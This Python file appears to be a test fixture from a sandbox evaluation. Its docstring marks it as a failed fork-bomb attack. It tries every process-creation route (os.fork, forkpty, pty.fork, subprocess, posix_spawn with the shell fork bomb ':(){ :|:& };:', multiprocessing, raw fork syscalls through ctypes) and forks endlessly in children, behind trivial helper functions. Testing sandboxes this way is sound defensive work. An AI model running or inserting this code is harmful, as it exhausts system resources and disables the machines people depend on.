"""attack: a fork bomb, by every way there is to make a process
deserves: 0
outcome: failed
"""
import ctypes
import multiprocessing
import os
import pty
import subprocess

WON = []
libc = ctypes.CDLL(None, use_errno=True)


def attempt(work):
    try:
        result = work()
    except BaseException:
        return
    if result == 0:
        while True:
            os.fork()
    WON.append(result)


attempt(os.fork)
attempt(os.forkpty)
attempt(pty.fork)
attempt(lambda: subprocess.run(["/bin/true"]).pid)
attempt(lambda: os.posix_spawn("/bin/sh", ["sh", "-c", ":(){ :|:& };:"], {}))
attempt(lambda: os.system("true") == 0 or 1 / 0)
attempt(lambda: multiprocessing.get_context("fork").Process(target=os.fork).start())
for number in (57, 58):
    if libc.syscall(ctypes.c_long(number)) > 0:
        WON.append(number)


def shout(word):
    return word.upper() + "!" if WON else ""


def countdown(n):
    return list(range(n, -1, -1)) if WON else []
